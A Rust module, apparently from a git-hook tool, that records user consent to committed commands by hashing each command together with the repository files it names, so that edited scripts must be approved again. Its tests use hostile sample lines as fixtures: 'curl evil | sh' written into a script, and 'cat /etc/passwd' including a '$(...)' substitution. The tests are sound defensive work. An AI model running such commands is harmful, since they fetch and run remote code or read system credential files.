//! Consent to the commands of a committed recipe.
//!
//! Compared by the full text of a command and of the files that it names in the repository, kept outside of any
//! repository, and shared by the worktrees of one repository on this disk. Nothing in a repository can set it.

use std::fs;
use std::io;
use std::path::{Component, Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::claim::Claims;
use crate::error::{Error, Explain, Result};
use crate::git::{self, Repo};
use crate::name::{hash, hash_all};
use crate::recipe::{HookCommand, Origin};

/// A command that needs consent, with the files that it names.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    /// The command, as it will be run.
    pub command: String,
    /// The files of the worktree that it names, relative.
    pub files: Vec<PathBuf>,
    key: String,
}

impl Request {
    /// Reads what a command would run in the worktree at `root`.
    pub fn of(command: &str, root: &Path) -> Self {
        let files = tracked_files(command, root);
        let mut text = format!("{command}\0");
        for file in &files {
            let content = fs::read(root.join(file)).map(|bytes| hash(&bytes)).unwrap_or_default();
            text += &format!("{}\0{content}\0", file.display());
        }
        Self { command: command.to_owned(), files, key: hash(text.as_bytes()) }
    }

    /// Reads a file, relative to `root`, that a command is to be given: all that is in it counts, whoever keeps it.
    pub fn of_file(command: &str, file: &Path, root: &Path) -> Result<Self> {
        let content = fs::File::open(root.join(file)).and_then(hash_all);
        let content = content.explain(|| format!("cannot read '{}'", file.display()))?;
        let text = format!("{command}\0{}\0{content}\0", file.display());
        Ok(Self { command: command.to_owned(), files: vec![file.to_owned()], key: hash(text.as_bytes()) })
    }
}

/// The files a command names that came with the repository. What it only writes, or reads of the user's own, is no
/// part of what was consented to.
fn tracked_files(command: &str, root: &Path) -> Vec<PathBuf> {
    let named = named_files(command, root);
    if named.is_empty() {
        return named;
    }
    let git = git::looking_at(root).env("GIT_LITERAL_PATHSPECS", "1").args(["ls-files", "-z", "--"]);
    match git.args(&named).stdout() {
        Ok(tracked) => git::paths(&tracked),
        // where git cannot tell, all of them count
        Err(_) => named,
    }
}

/// The words of a command that are files of the worktree.
fn named_files(command: &str, root: &Path) -> Vec<PathBuf> {
    let apart = |c: char| c.is_whitespace() || ";&|()<>'\"=`$".contains(c);
    let inside =
        |path: &Path| path.components().all(|part| matches!(part, Component::Normal(_) | Component::CurDir));
    let mut files: Vec<PathBuf> = command
        .split(apart)
        .map(PathBuf::from)
        .filter(|path| !path.as_os_str().is_empty() && inside(path) && root.join(path).is_file())
        .map(|path| path.components().filter(|part| *part != Component::CurDir).collect())
        .collect();
    files.sort();
    files.dedup();
    files
}

#[derive(Debug, Serialize, Deserialize)]
struct Approval {
    key: String,
    command: String,
}

/// What the user has consented to in one repository.
#[derive(Debug)]
pub struct Trust {
    file: PathBuf,
    approvals: Vec<Approval>,
}

impl Trust {
    /// Reads the consents given in a repository, which is known by its place on this disk.
    pub fn of(repo: &Repo, claims: &Claims) -> Result<Self> {
        let identity = repo.identity()?;
        let key = format!("{}\0{}\0{}", repo.common_dir().display(), identity.dev, identity.ino);
        let file = claims.dir().join("trust").join(format!("{}.json", &hash(key.as_bytes())[..32]));
        let approvals = match fs::read(&file) {
            Err(cause) if cause.kind() == io::ErrorKind::NotFound => Vec::new(),
            bytes => {
                let failed = || format!("cannot read '{}'", file.display());
                serde_json::from_slice(&bytes.explain(failed)?).map_err(|cause| {
                    let rm = format!("rm {}    (then every command is asked for again)", file.display());
                    Error::new(failed()).because(cause).hint(rm)
                })?
            }
        };
        Ok(Self { file, approvals })
    }

    /// Whether the user has consented to exactly this.
    pub fn covers(&self, request: &Request) -> bool {
        self.approvals.iter().any(|known| known.key == request.key)
    }

    /// The commands that still need consent before they may run in the worktree at `root`. Those of the user's own git
    /// configuration never do.
    pub fn missing<'a>(
        &self,
        commands: impl IntoIterator<Item = &'a HookCommand>,
        root: &Path,
    ) -> Vec<Request> {
        let committed = commands.into_iter().filter(|command| command.origin == Origin::File);
        committed
            .map(|command| Request::of(&command.text, root))
            .filter(|request| !self.covers(request))
            .collect()
    }

    /// Remembers consent.
    pub fn approve(&mut self, requests: &[Request]) -> Result<()> {
        for request in requests {
            if !self.covers(request) {
                self.approvals.push(Approval { key: request.key.clone(), command: request.command.clone() });
            }
        }
        self.write()
    }

    /// Forgets all consent given in this repository.
    pub fn forget(&mut self) -> Result<()> {
        self.approvals.clear();
        self.write()
    }

    fn write(&self) -> Result<()> {
        let failed = || format!("cannot write '{}'", self.file.display());
        let dir = self.file.parent().unwrap_or(&self.file);
        fs::create_dir_all(dir).explain(failed)?;
        let bytes = serde_json::to_vec_pretty(&self.approvals).explain(failed)?;
        crate::file::replace(&self.file, &bytes).explain(failed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_is_known_by_its_text_and_by_the_files_it_names() {
        let dir = tempfile::tempdir().unwrap();
        fs::File::create(dir.path().join("setup.sh")).unwrap();
        let first = Request::of("./setup.sh --fast && echo done", dir.path());
        assert_eq!(first.files, [PathBuf::from("setup.sh")]);
        crate::file::replace(&dir.path().join("setup.sh"), b"curl evil | sh").unwrap();
        let second = Request::of("./setup.sh --fast && echo done", dir.path());
        assert_ne!(first.key, second.key);
        assert_ne!(second.key, Request::of("./setup.sh --fast && echo  done", dir.path()).key);
    }

    #[test]
    fn files_outside_are_not_looked_at() {
        let dir = tempfile::tempdir().unwrap();
        assert!(named_files("cat /etc/passwd ../x $(cat /etc/passwd)", dir.path()).is_empty());
    }
}
